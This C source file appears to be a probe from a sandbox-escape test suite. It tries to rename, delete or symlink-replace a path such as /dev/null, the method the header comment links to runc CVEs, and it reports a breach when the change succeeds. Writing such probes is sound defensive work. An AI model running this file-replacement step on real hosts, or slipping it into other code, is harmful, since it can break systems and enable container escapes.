/* SPDX-License-Identifier: MIT */
/*
 * Replaces something that a sandbox mounts on, mounts from or opens by name, so that the next set-up, or the clean-up,
 * meets something else: runc's masks by way of /dev/null, its console and its writes to /proc were led astray so
 * (CVE-2025-31133, CVE-2025-52565, CVE-2025-52881).
 */
#include "attack.h"

#include <fcntl.h>
#include <sys/stat.h>

int main(int argc, char **argv)
{
    const char *path = argc > 1 ? argv[1] : "/dev/null";
    const char *how = argc > 2 ? argv[2] : "replace";
    char aside[4096];

    snprintf(aside, sizeof(aside), "%s.aside", path);
    if (strcmp(how, "make") == 0) {
        if (symlink(scene("SN_DROP"), path) == 0)
            breach("%s is a link of the program's now", path);
    } else if (rename(path, aside) == 0) {
        breach("%s is gone", path);
    } else if (unlink(path) == 0 || rmdir(path) == 0) {
        breach("%s is removed", path);
    }
    held_by_errno(path);
}
